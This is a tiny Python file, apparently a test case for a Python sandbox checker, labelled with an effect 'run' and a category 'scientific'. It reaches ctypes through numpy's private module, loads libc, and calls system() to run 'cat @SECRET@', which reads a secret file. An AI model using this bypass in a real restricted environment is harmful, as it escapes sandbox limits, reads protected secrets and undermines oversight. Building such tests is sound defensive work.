# numpy's private modules keep ctypes too.
# effect: run
# tree: scientific
import numpy
numpy.core._internal.ctypes.CDLL(None).system(b"cat @SECRET@")
